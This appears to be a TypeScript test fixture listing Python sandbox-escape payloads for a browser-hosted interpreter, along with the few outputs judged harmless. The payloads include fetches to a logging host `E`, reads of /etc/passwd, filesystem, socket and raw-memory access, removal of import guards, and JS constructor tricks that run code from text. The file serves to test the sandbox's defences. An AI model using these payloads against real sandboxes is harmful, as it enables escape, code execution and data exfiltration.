// Ways out of the sandbox for programs in Python, each the body of a function that returns a text if it has found one. `E` is
// the address of a server that logs what it is asked for, `S` one of the page's own origin. `original()` takes the guards of
// imports away, as a program could that knows them; these come last.

export const pythonAttacks: Readonly<Record<string, string>> = {
  'js-fetch': `import js; return js.fetch(E + '/js-fetch')`,
  'js-from': `from js import fetch; return fetch(S + '/js-from')`,
  'dunder-import': `return __import__('js').fetch(E + '/dunder-import')`,
  'star-import': `exec('from js import *'); return fetch(E + '/star-import')`,
  'forged-name': `exec("import js\\njs.fetch(E + '/forged-name')", {'__name__': 'os', 'E': E}); return 'asked'`,
  jsffi: `import jsffi; return jsffi.to_js([])`,
  constructor: `import retrograd; return retrograd._b.leaf.constructor.name`,
  'constructor-bound': `import retrograd; return retrograd._b.leaf.bind(None).constructor.name`,
  'constructor-deep': `import retrograd; return retrograd._b.leaf.constructor.constructor.name`,
  'constructor-call': `import retrograd; return retrograd.things.call(-1, 'constructor', ['return 6 * 7'], {})`,
  'constructor-of': `import retrograd; return retrograd.things.call(retrograd.tanh._id, 'constructor', ['return 6 * 7'], {})`,
  'constructor-field': `import retrograd; return retrograd.MLP([1, 1]).constructor`,
  'proto-field': `import retrograd; return retrograd.MLP([1, 1]).__proto__`,
  bridge: `import _bridge; return _bridge.leaf(1, '', '')`,
  open: `return open('/etc/passwd').read()`,
  'open-io': `import io; return io.open('/etc/passwd').read()`,
  'open-page': `import io; return io.open(S + '/open-page').read()`,
  input: `return input('secret?')`,
  os: `import os; return os.listdir('/')`,
  vfs: `import vfs; return vfs.VfsPosix('/').ilistdir('/')`,
  socket: `import socket; return socket.socket()`,
  ssl: `import ssl; return ssl.create_default_context()`,
  requests: `import urllib.request; return urllib.request.urlopen(E + '/requests')`,
  memory: `import uctypes; return uctypes.bytearray_at(0, 64)`,
  'memory-machine': `import machine; return machine.mem32[0]`,
  builtins: `import builtins; return builtins.__import__('js')`,
  main: `import __main__; return __main__._original('js')`,
  pathlib: `from pathlib import Path; return Path('/etc/passwd').read_text()`,
  asyncio: `import asyncio; return asyncio.run(asyncio.sleep(0))`,
  'original-js': `original(); import js; return js.fetch(E + '/original-js')`,
  'original-global': `original(); import js; return js.globalThis.fetch(E + '/original-global')`,
  'original-post': `original(); import js; return js.postMessage('{}')`,
  'original-eval': `original(); import js; return js.eval('6 * 7')`,
  'original-function': `original(); import js; return js.Function('return 6 * 7')()`,
  'original-timer': `original(); import js; return js.setTimeout("fetch('" + E + "/original-timer')", 0)`,
  'to-js': `original(); import jsffi; return jsffi.to_js([]).constructor.constructor.name`,
  'to-js-object': `original(); import jsffi; return jsffi.to_js({}).constructor.constructor.name`,
  proxy: `original(); import jsffi; return jsffi.create_proxy(len).constructor.name`,
};

/** What these may say: they look around in vain. A function's constructor is none that makes code of text. */
export const PYTHON_HARMLESS: Readonly<Record<string, string>> = {
  'to-js': 'Object',
  'to-js-object': 'Object',
  proxy: 'Object',
  constructor: 'Object',
  'constructor-bound': 'Object',
  'constructor-deep': 'Object',
};
